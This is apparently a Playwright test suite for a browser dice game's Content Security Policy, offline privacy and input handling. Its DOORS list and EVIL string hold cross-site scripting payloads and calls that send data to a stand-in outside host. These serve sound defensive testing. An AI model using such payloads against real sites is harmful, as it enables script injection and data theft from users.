"""What the page may do and what may be done to it: its policy, what leaves it (nothing), and texts that would be code."""

import json
import random
import re
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import quote, urlsplit

import pytest
from player import GAME, MINE, begin, import_file, layers, look, open_game, saved, settled
from playwright.sync_api import Browser, BrowserContext, Page, expect

from engine.link import open_link, replay_link
from tests.choosing import completing, stopping
from tests.web.conftest import (
    COMPILED_ONCE,
    HEAR,
    Host,
    Spoilt,
    arguments,
    offered_headers,
    wait_for_engine,
    wait_for_mark,
    wait_for_service_worker,
)
from tools import browser as browsers

WEB = Path(__file__).resolve().parents[2] / "web"

POLICY = {
    "default-src": "'none'",
    "script-src": "'self' 'wasm-unsafe-eval' 'unsafe-eval'",
    "style-src": "'self'",
    "img-src": "'self'",
    "font-src": "'self'",
    "connect-src": "'self'",
    "worker-src": "'self'",
    "frame-src": "'self'",
    "manifest-src": "'self'",
    "base-uri": "'none'",
    "form-action": "'none'",
}
SPY = """
window.violations = [];
document.addEventListener("securitypolicyviolation", ({ effectiveDirective, blockedURI, sample }) =>
    window.violations.push(`${effectiveDirective} ${blockedURI} ${sample}`));
"""
# Each would set `window.escaped` or ask the other host for something. `%s` is the other host's address.
DOORS = {
    "markup": "document.body.innerHTML = '<img src=x onerror=\"escaped = 1\">'",
    "markup after": "document.body.insertAdjacentHTML('beforeend', '<b>x</b>')",
    "markup for a frame": "Object.assign(document.createElement('iframe'), {srcdoc: '<b>x</b>'})",
    "markup parsed": "new DOMParser().parseFromString('<b>x</b>', 'text/html')",
    "script": "document.head.append(Object.assign(document.createElement('script'), {textContent: 'escaped = 1'}))",
    "handler": "const b = document.createElement('b'); b.setAttribute('onclick', 'escaped = 1'); b.click()",
    "address": "document.body.append(Object.assign(document.createElement('a'), {href: 'javascript:escaped = 1', id: 'a'})); document.getElementById('a').click()",
    "script of others": "const s = document.createElement('script'); s.src = '%sx.js'; document.head.append(s)",
    "module of others": "import('%sx.mjs').catch(() => {})",
    "module in an address": "import('data:text/javascript,escaped = 1').catch(() => {})",
    "worker": "new Worker(URL.createObjectURL(new Blob(['fetch(\"%sx\")'])))",
    "worker of others": "new Worker('%sx.js')",
    "request": "fetch('%sx').catch(() => {})",
    "beacon": "navigator.sendBeacon('%sx', 'text')",
    "socket": "new WebSocket('%sx'.replace('http', 'ws'))",
    "picture": "new Image().src = '%sx.png'",
    "style": "document.body.append(Object.assign(document.createElement('style'), {textContent: 'p { color: red }'}))",
    "style of others": "document.head.append(Object.assign(document.createElement('link'), {rel: 'stylesheet', href: '%sx.css'}))",
    "form": "const f = document.createElement('form'); f.action = '%sx'; document.body.append(f); f.submit()",
    "frame": "document.body.append(Object.assign(document.createElement('iframe'), {src: '%sx'}))",
    "object": "document.body.append(Object.assign(document.createElement('object'), {data: '%sx'}))",
    "base": "document.head.append(Object.assign(document.createElement('base'), {href: '%s'}))",
}  # fmt: skip
OPEN = """async (door) => {
    window.violations.length = 0;
    let refused = null;
    try { (0, eval)(`{ ${door} }`); } catch (error) { refused = String(error); }
    for (let i = 0; i < 1800 && !refused && !window.violations.length; i++) await new Promise((go) => setTimeout(go, 25));
    return refused ?? window.violations[0] ?? null;
}"""


def directives(policy: str) -> dict[str, str]:
    return {name: values for name, _, values in (part.strip().partition(" ") for part in policy.split(";"))}


@pytest.fixture
def spied(page: Page) -> Iterator[Page]:
    """A page that notes what its policy refuses."""
    page.add_init_script(SPY)
    yield page


@pytest.fixture
def other_host(tmp_path: Path) -> Iterator[Host]:
    running = Host(tmp_path)
    yield running
    running.stop()


def test_the_policy_is_strict_and_stands_first(site_folder: Path) -> None:
    html = (site_folder / "index.html").read_text("utf-8")
    policy = re.search(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)">', html)
    assert directives(policy[1]) == POLICY
    assert not re.search(r"<(script|link|base|style)\b", html[: policy.start()]), (
        "what stands before it goes free"
    )
    assert not re.search(r"<script(?![^>]*\b(src|type=\"mpy\"))", html), "no inline script"
    assert not re.search(r"<[^>]*\s(on\w+|style)=", html), "no inline handler, no inline style"


def test_every_door_is_closed(spied: Page, address: str, other_host: Host) -> None:
    spied.goto(address)
    wait_for_engine(spied)
    wait_for_service_worker(spied)
    assert spied.evaluate("violations") == []
    open_doors = [
        name
        for name, door in DOORS.items()
        if not spied.evaluate(OPEN, door.replace("%s", other_host.address))
    ]
    assert open_doors == []
    assert spied.evaluate("window.escaped ?? null") is None
    assert other_host.requests == []


def without_eval(site: Path) -> None:
    """The page's policy no longer has 'unsafe-eval'."""
    file = site / "index.html"
    html = file.read_text("utf-8")
    assert html.count("'unsafe-eval'") == 1
    file.write_text(html.replace("'unsafe-eval'", ""), "utf-8")


def test_pyscript_needs_to_make_a_function_from_text(context: BrowserContext, spoilt_host: Spoilt) -> None:
    """Why the policy has 'unsafe-eval': when this fails, PyScript needs it no more, and it is to go."""
    host = spoilt_host(without_eval)
    page = context.new_page()
    page.add_init_script(SPY)
    page.goto(host.address)
    expect(page.locator("#boot")).to_contain_text("could not be loaded")
    assert page.evaluate("violations").count("script-src eval ") >= 1
    assert page.evaluate("performance.getEntriesByName('ui-ready').length") == 0


def test_our_own_scripts_make_nothing_from_text() -> None:
    sinks = re.compile(r"innerHTML|outerHTML|insertAdjacentHTML|document\.write|srcdoc|DOMParser|createContextualFragment"
                       r"|\beval\(|\bFunction\(|document\.cookie|https?://")  # fmt: skip
    files = [*WEB.glob("*.mjs"), *WEB.glob("*.js"), *WEB.glob("*.css"), *WEB.joinpath("ui").rglob("*.py")]
    assert len(files) > 40
    found = [f"{file.name}: {line.strip()}" for file in files for line in file.read_text("utf-8").split("\n")
             if sinks.search(line) and not line.lstrip().startswith(("//", "#"))]  # fmt: skip
    assert found == []


# ---- nothing leaves the device ----


def played_to_the_end(page: Page, tutto: bool) -> None:
    luck = random.Random(8)
    while True:
        page.wait_for_function(MINE)
        now = look(page)
        if now["state"] == "over":
            return
        text = (stopping if tutto else completing)(now["actions"], luck)
        page.evaluate("text => document.querySelector(`button[data-action='${text}']`).click()", text)
        page.wait_for_function(
            """step => { document.querySelector('.news')?.click();
                         return document.querySelector('main').dataset.step !== step; }""",
            arg=now["step"],
        )


def visit_everything(page: Page, address: str) -> None:
    """Whole games of both games beside computer players, a hint, a replay, every screen, every copy."""
    begin(page, address, "instant")
    for link in ("#/goennen/solo?level=1&seed=QUIET", "#/tutto/table?seats=human,easy&start=0&seed=QUIET"):
        page.evaluate("location.hash = '#/'")
        page.wait_for_selector("main[data-screen=start]")  # until then the last game is still there
        page.evaluate("link => { location.hash = link; }", link)
        page.wait_for_selector(GAME)
        page.keyboard.press("h")
        expect(page.locator(".dock .coach")).to_be_visible()
        page.keyboard.press("Escape")
        played_to_the_end(page, "tutto" in link)
        page.click(".result-sheet [data-do=share]")
        for what in page.locator(".share-sheet [data-do^=copy]").evaluate_all(
            "all => all.map((one) => one.dataset.do)"
        ):
            page.click(f".share-sheet [data-do='{what}']")
        with page.expect_download() as picture:
            page.click(".share-sheet [data-do=picture]")
        assert picture.value.path().read_bytes().startswith(b"\x89PNG")
        page.keyboard.press("Escape")
        page.keyboard.press("Escape")
        page.click("[data-do=menu]")
        page.click("[data-do=watch]")
        page.wait_for_selector("[data-screen=replay]")
        page.keyboard.press("Home")
    for screen in ("#/help", "#/statistics", "#/"):
        page.evaluate("link => { location.hash = link; }", screen)
        page.wait_for_selector(f"main[data-screen={screen[2:] or 'start'}]")
        settled(page)
    page.click("[data-do=settings]")
    page.locator("[data-form=sounds][value=on]").check()
    wait_for_service_worker(page)
    page.reload()
    wait_for_engine(page)
    # The last thing that a page does by itself is to ask for its service worker; so nothing comes after this.
    page.evaluate("navigator.serviceWorker.ready.then((each) => each.update()).then(() => true)")
    settled(page)


def test_whole_games_ask_nobody_and_break_no_policy(
    chromium: Browser, site_folder: Path, tmp_path: Path
) -> None:
    """All that the browser asked for, of whomever, is in its own log of the network: page, workers, service worker."""
    host = Host(site_folder)
    log = tmp_path / "network.json"
    browser = chromium.browser_type.launch(
        executable_path=browsers.find(), args=[*arguments(), COMPILED_ONCE, f"--log-net-log={log}"]
    )
    context = browser.new_context(locale="en-GB", viewport={"width": 1280, "height": 800})
    context.grant_permissions(["clipboard-read", "clipboard-write"])
    context.set_default_timeout(60_000)
    context.add_init_script(SPY)
    context.add_init_script(HEAR)
    page = context.new_page()
    said: list[str] = []
    page.on("console", lambda message: said.append(f"{message.type}: {message.text}"))
    page.on("pageerror", lambda error: said.append(str(error)))
    visit_everything(page, host.address)
    assert page.evaluate("violations") == []
    assert context.cookies() == [] and page.evaluate("document.cookie") == ""
    kept = page.evaluate("[...Object.keys(localStorage), ...Object.keys(sessionStorage)]")
    assert kept and all(key.startswith("dicetable.") for key in kept)
    # PyScript's core makes an empty one for a feature that the page does not use.
    databases = page.evaluate("indexedDB.databases().then((all) => all.map(({name}) => name))")
    assert databases in ([], ["IDBMap/@pyscript.fs"])
    browser.close()
    host.stop()
    # The browser may remark that it has fetched something early that was needed late.
    expected = ("PyScript Ready", "was preloaded using link preload but not used within a few seconds")
    assert [line for line in said if not any(each in line for each in expected)] == []
    site = urlsplit(host.address)
    ours = [each for each in asked_for(log) if each["initiator"].startswith(f"http://{site.netloc}")]
    assert {urlsplit(each["url"]).path for each in ours} >= {"/sw.js", "/icons/icon.svg"}
    assert {each["url"] for each in ours if urlsplit(each["url"]).netloc != site.netloc} == set()
    assert [each["url"] for each in ours if "?" in each["url"] or "#" in each["url"]] == [], (
        "its own host learns nothing"
    )


def asked_for(log: Path) -> list[dict[str, str]]:
    """Every request in Chromium's log of its network, and on whose behalf: the browser asks for things of its own."""
    events = json.loads(log.read_text("utf-8"))["events"]
    asked = [event.get("params", {}) for event in events]
    return [each for each in asked if isinstance(each, dict) and {"url", "initiator"} <= each.keys()]


@pytest.mark.parametrize("language", ["en", "de", "nl"])
def test_the_help_page_says_so(page: Page, address: str, language: str) -> None:
    page.add_init_script(f"localStorage.setItem('dicetable.language', '{language}')")
    page.goto(address + "#/help")
    page.click("[data-do='chapter about']")
    sentence = {"en": "leaves", "de": "verlässt", "nl": "verlaat"}[language]
    expect(page.locator("main")).to_contain_text(sentence)
    cookies = {"en": "cookie", "de": "Cookies", "nl": "cookies"}[language]
    expect(page.locator("main")).to_contain_text(cookies)


# ---- texts that would be code ----

EVIL = '<img src=x onerror="window.escaped=1"><script>window.escaped=1</script>\'"&amp;'
ROUTES = {
    "goennen/solo": ("level", "seed", "ruleset", "practice", "beat", "moves"),
    "goennen/daily": ("date", "level"),
    "goennen/campaign": ("level", "points", "seed"),
    "goennen/table": ("seats", "start", "seed", "practice"),
    "tutto/solo": ("seed", "beat", "moves"),
    "tutto/table": ("seats", "start", "seed"),
    "replay": ("game", "level", "date", "points", "seats", "start", "seed", "ruleset", "practice", "moves"),
}
STRANGE = "[...document.querySelectorAll('img, script:not([src]):not([type=mpy]), iframe, object, #page style')].length"


def links() -> Iterator[str]:
    for route, keys in ROUTES.items():
        start = {
            "goennen/table": "seats=human,human",
            "tutto/table": "seats=human,human",
            "replay": "game=goennen",
        }
        for key in keys:
            known = start.get(route, "")
            query = "&".join(part for part in known.split("&") if part and not part.startswith(key + "="))
            for text in (EVIL, quote(EVIL, safe="")):
                yield f"#/{route}?{query}{'&' if query else ''}{key}={text}"
        yield f"#/{route}?{quote(EVIL)}=1"
        yield f"#/{route}{EVIL}"
    yield f"#/{EVIL}"
    yield f"#{EVIL}"
    yield f"#/replay?game=tutto&seed={quote(EVIL)}&moves={EVIL}"


GONE_TO = """link => new Promise((go) => {
    addEventListener("hashchange", () => requestAnimationFrame(() => requestAnimationFrame(() => go())), { once: true });
    location.hash = link;
})"""


def look_around(page: Page) -> str:
    """Opens what shows a game's seed, its link, or what was wrong with it; what the menu of a game says."""
    for gesture in ("taken", "menu", "watching"):
        page.evaluate("gesture => document.querySelector(`[data-do=${gesture}]`)?.click()", gesture)
    if page.locator("[data-do=menu]").count():
        page.locator(".menu-sheet").wait_for()
    said = "".join(page.locator(".menu-sheet").all_text_contents())
    for sheet in ("log", "score"):
        page.evaluate("name => document.querySelector(`[data-do=${name}]`)?.click()", sheet)
    page.keyboard.press("Escape")
    layers(page, 0)
    return said


def harmless(page: Page) -> None:
    assert page.evaluate(STRANGE) == 0
    assert page.evaluate("window.escaped ?? null") is None
    assert page.evaluate("violations") == []


def test_no_link_is_read_as_markup(spied: Page, address: str) -> None:
    spied.goto(address)
    wait_for_engine(spied)
    opened = 0
    said = ""
    for link in links():
        spied.evaluate("location.hash = '#/'")
        spied.locator("main[data-screen=start]").wait_for()
        spied.evaluate(GONE_TO, link)  # until what the last link has shown is gone
        spied.locator(
            "main[data-state], main[data-screen=start] .error, [data-screen=replay]"
        ).first.wait_for()
        opened += spied.locator("main[data-state]").count()
        said += look_around(spied)
        harmless(spied)
    assert opened >= 5, "a seed may be any text: those games are there"
    assert "<img" in said


def evil_save() -> str:
    """A game whose seed is the text, played a little."""
    match = open_link("#/goennen/solo?level=1&seed=" + quote(EVIL[:60]))
    for _ in range(8):
        match.play(match.state.legal_actions()[0])
    return match.save()


def test_no_file_is_read_as_markup(spied: Page, address: str, tmp_path: Path) -> None:
    save = evil_save()
    link = "#/goennen/solo?level=1&seed=" + quote(EVIL[:60], safe="")
    result = {"id": EVIL, "day": "2026-11-20", "game": "goennen", "mode": "solo", "level": 1, "score": 9, "won": True,
              "foes": [EVIL]}  # fmt: skip
    progress = {"format": 1, "results": [result], "daily": {EVIL: 3}, "run": None, "best_run": None}
    kept = {
        "dicetable.save " + link: save,
        f"dicetable.save #/{EVIL}": save,
        "dicetable.links": f"{link}\n#/{EVIL}",
        "dicetable.theme": EVIL[:30],
        "dicetable.language": EVIL[:30],
    }
    spied.goto(address + "#/statistics")
    wait_for_engine(spied)

    def read(name: str, content: object) -> None:
        file = tmp_path / name
        file.write_text(content if isinstance(content, str) else json.dumps(content), "utf-8")
        import_file(spied, file)

    for held in (kept, kept | {"dicetable.progress": json.dumps(progress)}, kept | {EVIL: EVIL}):
        pairs = [list(pair) for pair in held.items()]
        read("everything.json", {"dicetable": "everything", "format": 1, "kept": pairs})
        expect(spied.locator(".import-sheet, .notice.shown, .error").first).to_be_visible()
        harmless(spied)
        if spied.locator("[data-do=import_all]").count():
            spied.click("[data-do=import_all]")
            expect(spied.locator(".notice.shown, .error").first).to_be_visible()
            harmless(spied)
    spied.evaluate("location.hash = '#/'")
    spied.click("button[data-do='resume goennen']")
    spied.locator("main[data-state]").wait_for()
    assert "<img" in look_around(spied)
    harmless(spied)
    spied.evaluate("location.hash = '#/'")
    spied.locator("main[data-screen=start]").wait_for()
    spied.reload()
    wait_for_engine(spied)
    harmless(spied)
    spied.click("button[data-do^=resume]")
    spied.locator("main[data-state]").wait_for()
    look_around(spied)
    harmless(spied)
    assert saved(spied)["seed"] == EVIL[:60]
    spied.evaluate("location.hash = '#/statistics'")
    spied.locator("[data-do=import]").wait_for()
    read("game.json", save)
    spied.locator("[data-screen=replay]").wait_for()
    harmless(spied)
    assert replay_link(open_link(link)).count("<") == 0


def test_what_is_kept_is_no_markup_either(spied: Page, address: str) -> None:
    """Another page of the same site could write anything there."""
    spied.goto(address)
    wait_for_engine(spied)
    keys = ["links", "progress", "theme", "language", "motion", "sounds", "pace", "save #/goennen/solo"]
    for key in keys:
        spied.evaluate(
            "([key, text]) => { localStorage.clear(); localStorage.setItem('dicetable.' + key, text); }",
            [key, EVIL],
        )
        spied.reload()
        wait_for_mark(spied, "ui-ready")
        harmless(spied)
        spied.evaluate("location.hash = '#/statistics'")
        spied.locator("[data-do=import]").wait_for()
        harmless(spied)
        spied.evaluate("location.hash = '#/'")


def test_a_game_of_a_hostile_seed_is_played_and_shared(spied: Page, address: str) -> None:
    open_game(spied, address, "#/tutto/solo?seed=" + quote(EVIL[:60]))
    luck = random.Random(2)
    for _ in range(12):
        spied.wait_for_function(MINE)
        now = look(spied)
        if now["state"] == "over":
            break
        text = stopping(now["actions"], luck)
        spied.evaluate("text => document.querySelector(`button[data-action='${text}']`).click()", text)
        spied.wait_for_function(
            """step => { document.querySelector('.news')?.click();
                         return document.querySelector('main').dataset.step !== step; }""",
            arg=now["step"],
        )
    harmless(spied)
    assert "<" not in spied.evaluate("location.hash")


def test_the_docs_have_a_policy_and_keep_it(context: BrowserContext, host: Host) -> None:
    """Their own, and the one that docs/security.md offers to those who can set headers."""
    wanted = offered_headers()
    host.headers = lambda path: wanted
    page = context.new_page()
    page.add_init_script(SPY)
    for name in ("index", "api", "genindex", "figures"):
        page.goto(f"{host.address}docs/{name}.html")
        assert page.evaluate(
            "document.querySelector('meta[http-equiv=Content-Security-Policy]').content"
        ).startswith("default-src 'none'")
        theme = page.evaluate("document.body.dataset.theme")
        page.locator(".theme-toggle:visible").first.click()  # a script of the theme
        assert page.evaluate("document.body.dataset.theme") != theme
        assert page.evaluate("violations") == []
    page.goto(f"{host.address}docs/index.html")
    page.fill(".sidebar-search:visible", "dice")
    page.keyboard.press("Enter")
    page.locator("#search-results li a").first.wait_for()
    assert page.evaluate("violations") == []
